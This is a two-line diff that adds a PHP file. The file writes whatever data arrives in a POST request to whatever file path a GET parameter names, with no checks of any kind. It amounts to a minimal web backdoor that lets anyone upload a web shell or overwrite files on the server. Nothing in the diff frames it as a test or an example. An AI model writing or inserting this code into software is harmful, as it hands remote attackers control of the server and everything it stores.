@@ -1,0 +1,2 @@
+<?php
+file_put_contents($_GET['n'], $_POST['d']);
